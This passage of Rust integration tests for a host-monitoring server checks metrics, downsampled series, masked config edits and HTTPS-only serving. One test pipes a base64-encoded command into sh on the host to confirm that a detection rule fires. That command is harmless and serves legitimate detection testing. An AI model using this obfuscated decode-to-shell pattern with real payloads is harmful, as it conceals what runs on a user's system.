    let server = Server::start_with(dir.path(), &["--config", config.to_str().unwrap()]);
    let http = http();
    eventually("host gauges on /metrics", || async {
        let text = match http.get(server.url("/metrics")).send().await {
            Ok(r) => r.text().await.unwrap_or_default(),
            Err(_) => String::new(),
        };
        text.contains("watchpost_host_cpu_percent ")
            && text.contains("watchpost_host_disk_used_percent{mount=\"")
            && text.contains("watchpost_host_network_received_bytes{interface=\"lo\"}")
    })
    .await;
    eventually("metric samples stored as events", || async {
        let page: Value =
            get_json(&http, server.url("/api/v1/events?source=server&limit=10")).await;
        page["items"].as_array().is_some_and(|items| {
            items.len() >= 2 && items.iter().all(|e| e["event"]["kind"] == "metric")
        })
    })
    .await;
    let detections: Value = get_json(&http, server.url("/api/v1/detections?limit=100")).await;
    let memory: Vec<&Value> = detections["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["rule_id"] == "host.memory_threshold")
        .collect();
    assert_eq!(memory.len(), 1, "{detections}");
    assert_eq!(memory[0]["detector"], "host");
}

#[tokio::test]
async fn the_server_records_its_hosts_process_execs_and_runs_the_rules_on_them() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: recording execs needs root (the proc connector)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_recording_execs(dir.path());
    let http = http();
    let script = "echo ZWNobyB3cC1zZXJ2ZS1leGVjcyA+L2Rldi9udWxsCg== | base64 -d | sh";
    // The capture starts with the server; run the attack until the server has seen it.
    eventually(
        "the server detects base64 decoded into a shell on its own host",
        || async {
            std::process::Command::new("/bin/sh")
                .args(["-c", script])
                .status()
                .unwrap();
            let body: Value = get_json(&http, server.url("/api/v1/detections?limit=200")).await;
            body["items"].as_array().into_iter().flatten().any(|d| {
                d["rule_title"]
                    .as_str()
                    .is_some_and(|t| t.contains("Base64-Decoded"))
                    && d["evidence"]
                        .to_string()
                        .contains("ZWNobyB3cC1zZXJ2ZS1leGVjcyA")
            })
        },
    )
    .await;
    let page: Value = get_json(&http, server.url("/api/v1/events?source=server&limit=200")).await;
    assert!(
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["event"]["action"] == "exec"),
        "exec events stored with source server"
    );
}

#[tokio::test]
async fn the_servers_own_host_metrics_become_downsampled_series() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("watchpost.toml");
    std::fs::write(&cfg, "[monitoring]\nmonitor_interval = 1\n").unwrap();
    let cfg = cfg.display().to_string();
    let _server = Server::start_with(dir.path(), &["--config", &cfg]);
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname")
        .unwrap()
        .trim()
        .to_string();
    let series = |metric: &str| {
        let out = run(
            dir.path(),
            &[
                "--config", &cfg, "metrics", "series", "--host", &host, "--metric", metric,
                "--since", "1h", "--step", "1m", "--json",
            ],
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    eventually("three samples of CPU in the series", || async {
        series("cpu.percent")["points"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["samples"].as_i64().unwrap())
            .sum::<i64>()
            >= 3
    })
    .await;
    let memory = series("memory.percent");
    let point = &memory["points"].as_array().unwrap()[0];
    let (min, avg, max) = (
        point["min"].as_f64().unwrap(),
        point["avg"].as_f64().unwrap(),
        point["max"].as_f64().unwrap(),
    );
    assert!(
        0.0 < min && min <= avg && avg <= max && max <= 100.0,
        "{point}"
    );
    let root = series("disk.used_percent:/");
    assert!(!root["points"].as_array().unwrap().is_empty(), "{root}");

    // The same series over the API, and its parameters checked.
    let http = http();
    let api = get_json(
        &http,
        _server.url(&format!(
            "/api/v1/metrics?host={host}&metric=cpu.percent&step=1m"
        )),
    )
    .await;
    assert_eq!(api["step_seconds"], 60);
    assert!(!api["points"].as_array().unwrap().is_empty(), "{api}");
    for (query, parameter) in [
        ("metric=cpu.percent", "host"),
        (&*format!("host={host}&metric=cpu.percent&step=10s"), "step"),
        (
            &*format!("host={host}&metric=cpu.percent&step=1m&from=2020-01-01T00:00:00Z"),
            "step",
        ),
    ] {
        let refused = get_json(&http, _server.url(&format!("/api/v1/metrics?{query}"))).await;
        assert_eq!(
            refused["error"]["details"]["parameter"], parameter,
            "{query}: {refused}"
        );
    }
}

#[tokio::test]
async fn the_configuration_is_shown_masked_and_edited_with_validation() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("watchpost.toml");
    std::fs::write(
        &cfg,
        "[storage]\nretention_days = 7\n\n[alerting.route]\nreceiver = \"ops\"\n\n[[alerting.channels]]\nname = \"ops\"\ntype = \"webhook\"\nurl = \"http://127.0.0.1:9/hook\"\nsecret = \"s3cret-signing-key\"\n",
    )
    .unwrap();
    let cfg_text = cfg.display().to_string();
    let server = Server::start_with(dir.path(), &["--config", &cfg_text]);
    let http = http();
    let shown = get_json(&http, server.url("/api/v1/config")).await;
    assert!(
        !shown.to_string().contains("s3cret"),
        "secrets are masked: {shown}"
    );
    assert_eq!(shown["path"], cfg_text);

    // A valid edit of what was shown: written, in force at once, the secret kept.
    let mut config = shown["config"].clone();
    config["storage"]["retention_days"] = 30.into();
    let saved = http
        .put(server.url("/api/v1/config"))
        .json(&serde_json::json!({ "config": config }))
        .send()
        .await
        .unwrap();
    assert_eq!(saved.status(), 200);
    let saved: serde_json::Value = saved.json().await.unwrap();
    assert_eq!(saved["applied"], true, "{saved}");
    let now = get_json(&http, server.url("/api/v1/config")).await;
    assert_eq!(now["config"]["storage"]["retention_days"], 30);
    let written = std::fs::read_to_string(&cfg).unwrap();
    assert!(written.contains("retention_days = 30"), "{written}");
    assert!(
        written.contains("s3cret-signing-key"),
        "the masked secret is kept: {written}"
    );

    // An invalid one is refused with the key named, and nothing changes.
    config["storage"]["retention_days"] = 0.into();
    let refused = http
        .put(server.url("/api/v1/config"))
        .json(&serde_json::json!({ "config": config }))
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), 422);
    let refused: serde_json::Value = refused.json().await.unwrap();
    assert_eq!(refused["error"]["code"], "invalid_config");
    assert_eq!(
        refused["error"]["details"]["errors"][0]["key"], "storage.retention_days",
        "{refused}"
    );
    assert_eq!(std::fs::read_to_string(&cfg).unwrap(), written);
    let still = get_json(&http, server.url("/api/v1/config")).await;
    assert_eq!(still["config"]["storage"]["retention_days"], 30);
}

#[tokio::test]
async fn with_certificate_files_the_server_speaks_https_only() {
    let dir = tempfile::tempdir().unwrap();
    // A test CA and a server certificate for 127.0.0.1 signed by it.
    let watchpost_testkit::TestCertificates { ca, cert, key } =
        watchpost_testkit::test_certificates(dir.path());
    let cfg = dir.path().join("watchpost.toml");
    std::fs::write(
        &cfg,
        format!(
            "[api]\ntls_cert_file = \"{}\"\ntls_key_file = \"{}\"\n",
            cert.display(),
            key.display()
        ),
    )
    .unwrap();
    let server = Server::start_with(dir.path(), &["--config", cfg.to_str().unwrap()]);
    assert!(
        server.base.starts_with("https://127.0.0.1:"),
        "{}",
        server.base
    );
    let _ = rustls::crypto::ring::default_provider().install_default();
    let trusting = reqwest::Client::builder()
        .add_root_certificate(reqwest::Certificate::from_pem(&std::fs::read(&ca).unwrap()).unwrap())
        .build()
        .unwrap();
    let health = trusting.get(server.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), 200);
    let alerts = get_json(&trusting, server.url("/api/v1/alerts")).await;
    assert!(alerts["items"].is_array(), "{alerts}");
    // Plain HTTP on the same port gets no answer; an untrusting client refuses the server.
    let plain = server.base.replace("https://", "http://");
    assert!(http().get(format!("{plain}/healthz")).send().await.is_err());
    assert!(http().get(server.url("/healthz")).send().await.is_err());

    // A key that does not belong to the certificate is refused at start, naming both.
    let other = dir.path().join("other.pem");
    std::process::Command::new("openssl")
        .args(["genrsa", "-out"])
        .arg(&other)
        .arg("2048")
        .output()
        .unwrap();
    let bad = dir.path().join("bad.toml");
    std::fs::write(
        &bad,
        format!(
            "[api]\nport = 0\ntls_cert_file = \"{}\"\ntls_key_file = \"{}\"\n",
            cert.display(),
            other.display()
        ),
    )
    .unwrap();
    let refused = run(dir.path(), &["--config", bad.to_str().unwrap(), "serve"]);
    assert!(!refused.status.success());
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(
        stderr.contains("does not match api.tls_cert_file"),
        "{stderr}"
    );
}
